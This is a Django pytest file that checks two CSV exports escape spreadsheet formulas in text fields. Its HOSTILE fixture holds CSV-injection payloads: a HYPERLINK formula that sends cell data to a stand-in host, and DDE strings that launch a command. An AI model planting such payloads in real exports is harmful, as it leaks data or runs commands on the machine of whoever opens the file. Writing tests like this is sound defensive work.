"""``export_orders`` writes CSV that accounting opens in a spreadsheet (issue 10, item 19)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.utils import timezone

from fulfillment.tests.test_labels_and_tracking import paid_order
from orders.models import Order
from tests.shop import shop_open

pytestmark = pytest.mark.django_db

HOSTILE = {
    "product_name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "product_sku": "+cmd|' /C calc'!A0",
    "author_handle": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hashtag": "-2+3",
}


def _export() -> list[dict[str, str]]:
    out = io.StringIO()
    call_command(
        "export_orders", "--since", f"{timezone.now():%Y-%m-%d}", stdout=out, stderr=io.StringIO()
    )
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_export_orders_defuses_spreadsheet_formulas_in_text_cells():
    shop_open()
    order = paid_order()
    Order.objects.filter(pk=order.pk).update(
        **HOSTILE, ship_to={**order.ship_to, "state": "\t=1+1", "postal_code": "\r@A1"}
    )
    [row] = _export()
    assert row["product"] == "'" + HOSTILE["product_name"]
    assert row["sku"] == "'" + HOSTILE["product_sku"]
    assert row["author_handle"] == "'" + HOSTILE["author_handle"]
    assert row["campaign_hashtag"] == "'" + HOSTILE["hashtag"]
    assert row["ship_state"] == "'\t=1+1"
    assert row["ship_zip"] == "'\r@A1"
    # Numbers stay numbers.
    assert (row["quantity"], row["subtotal"], row["tax"], row["total"]) == (
        "1",
        "149.00",
        "9.31",  # Illinois 6.25%
        "158.31",
    )


def test_fulfillment_queue_csv_defuses_formulas_in_the_buyers_name():
    shop_open()
    order = paid_order()
    Order.objects.filter(pk=order.pk).update(ship_to={**order.ship_to, "name": "=1+1"})
    from fulfillment.models import Shipment
    from fulfillment.selectors import merchant_today

    Shipment.objects.filter(order=order).update(
        ship_by=merchant_today(order.merchant, timezone.now())
    )
    out = io.StringIO()
    call_command("fulfillment_queue", "--csv", stdout=out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["name"] == "'=1+1"
